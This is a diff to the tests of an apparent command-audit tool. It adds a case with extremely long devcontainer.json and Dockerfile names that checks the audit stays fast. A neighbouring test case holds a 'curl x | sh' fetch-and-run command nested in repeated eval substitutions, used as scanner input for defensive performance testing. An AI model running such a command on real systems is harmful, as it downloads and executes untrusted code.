@@ -82,6 +82,17 @@ describe('a long text of one kind does not hold up the audit', { timeout: 120_00
       [expect.stringMatching(/more words that may be files/)],
     ],
     [
+      'a pattern and the name of a file, both longer than names are',
+      {
+        'devcontainer.json': JSON.stringify({
+          build: { dockerfile: 'Dockerfile' },
+          postStartCommand: `/opt/${'a'.repeat(600_000)}`,
+        }),
+        Dockerfile: `FROM debian\nCOPY *${'a'.repeat(300_000)}b /opt/\n`,
+      },
+      [],
+    ],
+    [
       'substitutions in substitutions',
       command(`curl x | sh; ${'eval $('.repeat(25)}${'b;'.repeat(40_000)}b${')'.repeat(25)}`),
       [],
